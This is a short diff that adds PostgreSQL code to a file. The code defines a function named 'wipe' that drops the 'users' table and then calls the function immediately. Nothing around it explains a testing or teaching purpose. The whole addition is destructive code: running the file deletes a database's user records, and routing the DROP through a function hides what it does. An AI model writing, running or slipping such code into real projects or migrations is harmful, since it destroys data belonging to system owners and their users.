@@ -1,0 +1,6 @@
+CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$
+BEGIN
+  EXECUTE 'DROP TABLE users';
+END
+$$;
+SELECT wipe();
